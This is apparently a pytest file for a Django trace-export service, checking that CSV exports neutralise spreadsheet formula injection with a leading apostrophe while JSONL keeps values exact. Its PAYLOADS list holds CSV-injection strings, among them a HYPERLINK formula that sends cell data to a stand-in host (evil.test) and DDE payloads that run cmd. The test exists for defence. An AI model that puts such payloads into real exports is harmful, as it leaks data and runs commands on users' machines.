"""Exports and spreadsheets: a real export run (PostgreSQL COPY into a stored file). In CSV a
text cell starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe,
so a spreadsheet shows it instead of running it; JSONL keeps every value exactly."""
import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest
from django.core.files.storage import default_storage

from accounts.services import Actor
from traces.exports.services import export_create, export_run
from traces.services import trace_ingest_batch

pytestmark = pytest.mark.django_db(transaction=True)

PAYLOADS = ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1", "-", "+", "@"]
HARMLESS = ["plain text", "1+1", "a=b", "'already quoted", " =leading space", "", "\u200b=zero width"]


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


def ingest(account, values):
    at = datetime.now(timezone.utc) - timedelta(hours=1)
    items = []
    for i, value in enumerate(values):
        items.append({"request_id": f"{value}#{i}", "executed_at": (at + timedelta(seconds=i)).isoformat(),
                      "model": f"{value}model", "status": "success", "response_time_ms": 1234.5 + i,
                      "input": value, "output": value, "user_id": value, "source": value, "deployment": f"{value}dep",
                      "version": f"{value}v"[:100], "connection": f"{value}conn", "input_tokens": i})
    result = trace_ingest_batch(account, items)
    assert not result.errors, result.errors
    return {item["request_id"]: item for item in items}


def run(account, fmt):
    job = export_create(account, Actor.system(), {"format": fmt, "filters": {"sort": "executed_at"}})
    finished = export_run(job.pk) or job
    finished.refresh_from_db()
    assert finished.status == "succeeded", finished.error
    with default_storage.open(str(finished.file), "rb") as f:
        return f.read().decode()


def neutral(value: str) -> str:
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


TEXT_COLUMNS = {"request_id": "request_id", "input": "input", "output": "output", "user_id": "user_id",
                "source": "source", "model": "model", "deployment": "deployment",
                "deployment_version": "version", "connection": "connection"}


def test_csv_neutralises_formulas_and_jsonl_stays_exact(make_account, media):
    account = make_account("formulas")
    sent = ingest(account, PAYLOADS + HARMLESS)
    rows = list(csv.DictReader(io.StringIO(run(account, "csv"), newline="")))
    assert len(rows) == len(sent)
    # Each request_id ends in "#<n>": the row's place in what was sent, whatever was prefixed.
    by_original = {row["request_id"].rsplit("#", 1)[1]: row for row in rows}
    sent = {request_id.rsplit("#", 1)[1]: item for request_id, item in sent.items()}
    assert set(by_original) == set(sent)
    neutralised = 0
    for n, item in sent.items():
        row = by_original[n]
        for column, field in TEXT_COLUMNS.items():
            assert row[column] == neutral(item[field]), (column, item[field], row[column])
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r")
            neutralised += row[column] != item[field]
        # Numbers the product writes stay numbers.
        assert float(row["response_time_ms"]) == item["response_time_ms"]
        assert int(row["input_tokens"]) == item["input_tokens"]
        assert row["response_time"].startswith("0:01:")
    assert neutralised == len(PAYLOADS) * len(TEXT_COLUMNS)

    lines = [json.loads(line) for line in run(account, "jsonl").splitlines()]
    assert {line["request_id"] for line in lines} == {item["request_id"] for item in sent.values()}
    for line in lines:
        item = sent[line["request_id"].rsplit("#", 1)[1]]
        for field in ("input", "output", "user_id", "source", "model", "deployment", "version", "connection"):
            assert line[field] == item[field], (field, line[field], item[field])
